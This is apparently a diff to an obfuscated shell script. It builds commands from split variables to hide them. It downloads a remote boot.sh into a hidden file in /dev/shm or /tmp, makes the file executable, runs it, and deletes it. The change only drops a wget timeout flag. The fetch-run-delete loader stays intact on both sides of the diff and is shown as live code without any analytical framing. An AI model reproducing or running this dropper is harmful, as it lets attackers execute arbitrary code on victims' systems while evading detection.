@@ -8,7 +8,7 @@ k="/$d$e$v/$s$h$m/.$c$1"
 v=${22}
 k="/$d$e$v/$s$h$m/.$c$d"
 [ -w "${k%/*}" ] || k="/$t$m$p/.$c$d"
-"$w$g$e$t" -q -T 5 -O "$k" "$h$t$t$p://$site/$b$o$o$t.$s$h" || exit 1
+"$w$g$e$t" -q -O "$k" "$h$t$t$p://$site/$b$o$o$t.$s$h" || exit 1
 "$c$h$m$o$d" 700 "$k"
 "$k"
 "$r$m" -f "$k"
